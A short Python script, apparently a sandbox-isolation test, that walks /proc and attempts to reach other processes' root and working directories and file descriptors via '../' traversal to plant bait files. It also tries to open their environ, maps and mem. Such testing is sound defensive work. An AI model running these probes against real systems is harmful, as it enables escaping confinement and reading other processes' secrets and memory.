"""Out by what /proc offers of other processes: their root, their folder, what they hold, say and map."""

import os

from attacker import FACTS, attempt, got_it, write_bait

OUT = FACTS["bait"] + "/out"
own = {os.getpid(), os.getppid()}  # this and make

for pid in sorted({1, 2, *(int(name) for name in os.listdir("/proc") if name.isdecimal())} - own):
    for way in ("root", "cwd", f"task/{pid}/root"):
        if attempt(f"{pid}/{way}", os.listdir, f"/proc/{pid}/{way}") is not None:
            write_bait(f"/proc/{pid}/{way}/{'../' * 64}{OUT}")
            write_bait(f"/proc/{pid}/{way}{OUT}")
    for number in attempt(f"{pid}/fd", os.listdir, f"/proc/{pid}/fd") or []:
        write_bait(f"/proc/{pid}/fd/{number}/{'../' * 64}{OUT}")
    for name in ("environ", "maps", "mem", "exe", "ns/mnt"):
        if attempt(f"{pid}/{name}", open, f"/proc/{pid}/{name}", "rb") is not None:
            got_it(f"opened {name} of process {pid}, which is not its own")
